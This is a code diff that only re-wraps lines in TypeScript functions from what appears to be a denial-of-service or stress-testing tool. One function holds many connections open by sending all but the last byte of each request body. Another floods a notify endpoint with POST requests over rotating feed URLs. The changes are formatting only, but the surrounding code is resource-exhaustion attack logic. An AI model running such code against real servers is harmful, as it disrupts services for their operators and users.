@@ -12,7 +12,10 @@ interface Held {
 }
 
 /** Each connection sends all of a body but the last byte. */
-async function holdBodies({ target, signal, scale }: AttackRun, held: Held): Promise<string> {
+async function holdBodies(
+  { target, signal, scale }: AttackRun,
+  held: Held,
+): Promise<string> {
   const { path, bytes, headers = '' } = held
   const body = Buffer.alloc(bytes - 1, 0x78)
   const connections = Array.from({ length: scaled(held.connections, scale) }, () => {
@@ -44,7 +47,9 @@ async function announceAll({ target, signal, scale }: AttackRun): Promise<string
     while (!signal.aborted && connection.socket.writable) {
       const feedUrl = target.feedUrls[next++ % target.feedUrls.length] ?? ''
       const path = `${PUBNOTIFY}?url=${encodeURIComponent(feedUrl)}`
-      connection.socket.write(`POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n`)
+      connection.socket.write(
+        `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n`,
+      )
       await untilAnswered(connection, connection.statuses.length + 1, signal)
     }
     connection.socket.destroy()
